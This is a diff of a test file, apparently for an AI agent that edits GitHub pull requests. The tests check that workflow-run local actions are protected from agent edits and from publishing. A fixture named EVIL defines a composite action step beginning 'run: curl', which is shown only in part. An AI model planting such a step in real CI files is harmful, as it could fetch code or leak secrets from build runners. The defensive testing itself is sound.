@@ -7,11 +7,10 @@
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { exampleRepoFiles } from '../support/example-files.js';
 import { git } from '../support/github-repo.js';
-import { TOKEN_USER } from '../support/github-server.js';
-import { NAME, OWNER, PR, Scene } from '../support/github-scene.js';
+import { scenePerTest } from '../support/github-scene.js';
 import { renderedText } from '../support/rendered-markdown.js';
 
 const WORKFLOW = 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./tools/setup\n';
@@ -21,22 +20,14 @@ const EVIL = "name: setup\nruns:\n  using: composite\n  steps:\n    - run: curl 
 const base = (policy: string): Record<string, string> =>
   exampleRepoFiles({ '.github/warden.yml': policy, '.github/workflows/ci.yml': WORKFLOW, 'tools/setup/action.yml': ACTION });
 
-function finalComment(scene: Scene): string {
-  return scene.github.state.repo(OWNER, NAME)?.issues.get(PR)?.comments.find((c) => c.user.login === TOKEN_USER.login)?.body ?? '';
-}
-
 describe('local actions a workflow runs are CI configuration (dist, GitHub stand-in, token-protected git server)', () => {
-  let scene: Scene | undefined;
-  afterEach(async () => {
-    await scene?.close();
-    scene = undefined;
-  });
+  const startScene = scenePerTest();
 
   it('neither a Write nor a command can change tools/setup/action.yml when a workflow uses ./tools/setup; nothing is pushed', async () => {
     // `Edit(tools/**)` does not name the protected entry, so the tool is denied; `node` is allowed,
     // and only the sandbox's read-only view of tools/setup stops what it writes.
     const policy = 'version: 1\nmode: dontAsk\npermissions:\n  allow: ["Read", "Edit(tools/**)", "Bash(node *)"]\npublish:\n  push: branch\n';
-    scene = await Scene.start({
+    const scene = await startScene({
       base: base(policy),
       pull: { files: { 'README.md': 'x\n' }, branch: 'feature' },
       script: [
@@ -51,7 +42,7 @@ describe('local actions a workflow runs are CI configuration (dist, GitHub stand
     const r = await scene.run('issue_comment', scene.commentPayload('@warden change the setup action'));
     expect(r.stderr).not.toContain('internal error');
     expect(readFileSync(join(scene.workspace, 'tools/setup/action.yml'), 'utf8')).toBe(ACTION);
-    expect(() => readFileSync(join(scene?.workspace ?? '', 'tools/setup/x.js'))).toThrow();
+    expect(() => readFileSync(join(scene.workspace ?? '', 'tools/setup/x.js'))).toThrow();
     expect(r.outputs.verdict).not.toBe('changes');
     expect(git(scene.remote.bare, 'rev-parse', 'refs/heads/feature')).toBe(before);
     expect(r.outputs.commit_sha).toBe('');
@@ -63,7 +54,7 @@ describe('local actions a workflow runs are CI configuration (dist, GitHub stand
   it('a change to a local action is refused by the publisher even where the policy lets the agent make it', async () => {
     // The policy names tools/setup explicitly, so the tools let the agent write it: the publisher is the last wall.
     const policy = 'version: 1\nmode: dontAsk\npermissions:\n  allow: ["Read", "Edit(/tools/setup/**)"]\npublish:\n  push: branch\n';
-    scene = await Scene.start({
+    const scene = await startScene({
       base: base(policy),
       pull: { files: { 'README.md': 'x\n' }, branch: 'feature' },
       script: [
@@ -78,7 +69,7 @@ describe('local actions a workflow runs are CI configuration (dist, GitHub stand
     expect(r.outputs.verdict).toBe('changes');
     expect(git(scene.remote.bare, 'rev-parse', 'refs/heads/feature')).toBe(before);
     expect(r.outputs.commit_sha).toBe('');
-    const final = finalComment(scene);
+    const final = scene.stickyComment();
     expect(final).toContain('**The changes were not delivered:**');
     expect(renderedText(final)).toContain('`tools/setup/action.yml`: changes CI configuration (tools/setup: a local action or workflow the workflow .github/workflows/ci.yml runs');
   });
@@ -87,7 +78,7 @@ describe('local actions a workflow runs are CI configuration (dist, GitHub stand
     const policy = 'version: 1\nmode: dontAsk\npublish:\n  review: true\n';
     const files = base(policy);
     const changedWorkflow = `${WORKFLOW}      - run: npm test\n`;
-    scene = await Scene.start({
+    const scene = await startScene({
       base: files,
       checkout: 'merge',
       pull: { files: { '.github/workflows/ci.yml': changedWorkflow, 'tools/setup/action.yml': `${ACTION}# touched\n`, 'src/slug.js': `${files['src/slug.js'] ?? ''}// touched\n` }, branch: 'ci' },
